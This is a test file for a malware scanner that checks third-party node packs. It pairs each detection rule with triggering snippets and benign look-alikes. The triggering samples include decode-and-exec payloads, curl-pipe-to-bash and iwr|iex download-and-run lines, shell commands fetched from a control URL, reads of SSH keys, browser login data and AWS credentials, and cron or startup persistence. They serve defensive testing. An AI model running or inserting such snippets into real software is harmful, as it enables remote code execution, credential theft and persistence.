/**
 * Each rule of the scanner's rule set (src/Moderation/Rules.ts) against a file that triggers it
 * and one near it that must not: the code an honest node pack writes that looks alike. Every file
 * here is written for this test.
 */
import { describe, expect, it } from "@effect/vitest"
import * as fc from "fast-check"
import { rules, scanText } from "../../src/Moderation/Rules.ts"
import { forAllSync } from "../support/Property.ts"

interface Case {
  readonly triggers: ReadonlyArray<readonly [path: string, text: string]>
  readonly clean: ReadonlyArray<readonly [path: string, text: string]>
}

const blob = "QUJD".repeat(400)

const cases: Record<string, Case> = {
  "exec-decoded-data": {
    triggers: [
      ["nodes/__init__.py", "import base64\nexec(base64.b64decode(PAYLOAD))\n"],
      ["loader.py", "import zlib, marshal\ncode = exec(marshal.loads(zlib.decompress(data)))\n"],
      ["web/app.js", "eval(atob(window.payload))\n"]
    ],
    clean: [
      ["nodes/image.py", "import base64\nimg = base64.b64decode(request_image)\nresult = model.eval()\n"],
      ["web/app.js", "const bytes = atob(encodedImage)\nrender(bytes)\n"]
    ]
  },
  "download-and-run": {
    triggers: [
      ["install.py", "import requests\nexec(requests.get('https://paste.example/x').text)\n"],
      ["install.sh", "curl -fsSL https://get.example/setup | bash\n"],
      ["setup.ps1", "iwr https://get.example/a.ps1 | iex\n"]
    ],
    clean: [
      ["install.sh", "curl -fsSL -o model.safetensors https://models.example/m\nsha256sum -c model.sha256\n"],
      ["nodes/fetch.py", "r = requests.get(url)\nopen(target, 'wb').write(r.content)\n"]
    ]
  },
  "shell-from-network": {
    triggers: [
      ["nodes/update.py", "import os, requests\ncmd = requests.get(CONTROL).text\nos.system(cmd)\n"],
      ["nodes/run.py", "subprocess.run(urlopen(u).read().decode(), shell=True)\n"]
    ],
    clean: [
      ["nodes/video.py", "import subprocess\nsubprocess.run(['ffmpeg', '-i', path, out])\n"],
      ["nodes/info.py", "r = requests.get(api)\nsubprocess.run(['git', 'pull'])\n"]
    ]
  },
  "credential-access": {
    triggers: [
      ["nodes/x.py", "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"],
      ["nodes/y.py", "p = home / 'AppData/Local/Google/Chrome/User Data/Default/Login Data'\n"],
      ["nodes/z.py", "aws = Path.home() / '.aws/credentials'\n"],
      ["nodes/w.py", "load_dotenv(os.path.expanduser('~/projects/.env'))\n"]
    ],
    clean: [
      ["nodes/keys.py", "from dotenv import load_dotenv\nload_dotenv(os.path.join(os.path.dirname(__file__), '.env'))\n"],
      ["nodes/doc.py", "# set your key in ~/.ssh/config if you clone over ssh\nAPI_KEY = os.environ.get('API_KEY')\n"]
    ]
  },
  "persistence": {
    triggers: [
      ["nodes/p.py", "open(os.path.expanduser('~/.bashrc'), 'a').write(line)\n"],
      ["nodes/q.py", "dst = os.path.join(appdata, 'Microsoft/Windows/Start Menu/Programs/Startup', 'u.exe')\n"],
      ["install.sh", "(crontab -l; echo '@reboot /tmp/x') | crontab -\n"]
    ],
    clean: [
      ["nodes/sched.py", "scheduler = get_scheduler('cosine')\nprofile = load_profile('default')\n"],
      // an editor's table of file types, minified onto one line
      ["web/modes.js", `var m={SH:["sh|bash|^.bashrc"],Crontab:["crontab"],open:function(e){return e>0}};`]
    ]
  },
  "write-outside-node": {
    triggers: [
      ["nodes/out.py", "with open('/usr/local/lib/hook.py', 'w') as f:\n    f.write(code)\n"],
      ["nodes/home.py", "open(os.path.expanduser('~/notes.txt'), 'w').write(x)\n"]
    ],
    clean: [
      ["nodes/save.py", "with open(os.path.join(output_dir, name), 'w') as f:\n    f.write(text)\n"],
      ["nodes/list.py", "playlist = Path(__file__).parent / 'list.json'\nplaylist.write_text('[]')\n"]
    ]
  },
  "encoded-blob": {
    triggers: [["nodes/blob.py", `DATA = "${blob}"\n`]],
    clean: [["nodes/short.py", `ICON = "${"QUJD".repeat(50)}"\n`]]
  },
  "install-at-import": {
    triggers: [
      ["__init__.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'opencv-python'])\n"],
      ["install.py", "os.system('pip install -r requirements.txt')\n"]
    ],
    clean: [
      ["__init__.py", "from .nodes import NODE_CLASS_MAPPINGS\n# requirements are installed by the package manager\n"],
      // a script the user runs by hand is not the node's code
      ["install.sh", "python -m pip install -r requirements.txt\n"],
      // telling the user what to install is not installing it
      ["nodes/opt.py", "raise ImportError('Please run \"pip install extra\" to use this node')\n"]
    ]
  },
  "network-at-import": {
    triggers: [["__init__.py", "import requests\nLATEST = requests.get('https://api.example/latest').json()\n"]],
    clean: [
      ["nodes/api.py", "def fetch(url):\n    return requests.get(url, timeout=10).json()\n"],
      ["server.py", "import aiohttp\nfrom aiohttp import web\nimport urllib.request\n"]
    ]
  },
  "unpinned-url-requirement": {
    triggers: [
      ["requirements.txt", "numpy\ngit+https://github.com/someone/lib.git\n"],
      ["requirements.txt", "pkg @ https://files.example/pkg-1.0.tar.gz\n"],
      ["pyproject.toml", '[project]\nname = "n"\ndependencies = [\n  "numpy",\n  "lib @ git+https://github.com/someone/lib.git",\n]\n']
    ],
    clean: [
      ["requirements.txt", `numpy>=1.24\ngit+https://github.com/someone/lib.git@${"a".repeat(40)}\n# https://docs.example\n`],
      ["pyproject.toml", '[project]\ndependencies = ["numpy"]\n\n[project.urls]\nRepository = "https://github.com/someone/node"\n']
    ]
  }
}

const ruleIds = (path: string, text: string) => new Set(scanText(path, text).map((f) => f.rule))

describe("the rule set", () => {
  it("every rule has a case, and every case a rule", () => {
    expect(Object.keys(cases).sort()).toEqual(rules.map((r) => r.id).sort())
  })

  for (const rule of rules) {
    it(`${rule.id}: its packs trigger it, the near ones do not`, () => {
      for (const [path, text] of cases[rule.id]!.triggers) {
        const found = scanText(path, text).filter((f) => f.rule === rule.id)
        expect(found.length, `${path}: ${text}`).toBeGreaterThan(0)
        expect(found[0]).toMatchObject({ severity: rule.severity, file: path })
        expect(found[0]!.line).toBeGreaterThan(0)
        expect(text.split("\n")[found[0]!.line! - 1]!.trim().startsWith(found[0]!.excerpt.replace(/…$/, ""))).toBe(true)
      }
      for (const [path, text] of cases[rule.id]!.clean) {
        expect([...ruleIds(path, text)].filter((id) => id === rule.id), `${path}: ${text}`).toEqual([])
      }
    })
  }

  it("no clean pack of any rule raises a high finding", () => {
    for (const { clean } of Object.values(cases)) {
      for (const [path, text] of clean) {
        expect(scanText(path, text).filter((f) => f.severity === "high"), path).toEqual([])
      }
    }
  })

  it("comments are not code", () => {
    expect(scanText("a.py", "# exec(base64.b64decode(x))\n# curl x | sh\n")).toEqual([])
  })

  it("any text: findings stay within the file, excerpts short, scanning bounded", () =>
    forAllSync({ text: fc.string({ maxLength: 2000 }), path: fc.constantFrom("a.py", "b.js", "c.sh", "requirements.txt") }, ({ path, text }) => {
      const lines = text.split("\n").length
      for (const f of scanText(path, text)) {
        expect(f.line).toBeGreaterThanOrEqual(1)
        expect(f.line).toBeLessThanOrEqual(lines)
        expect(f.excerpt.length).toBeLessThanOrEqual(160)
      }
    }))
})
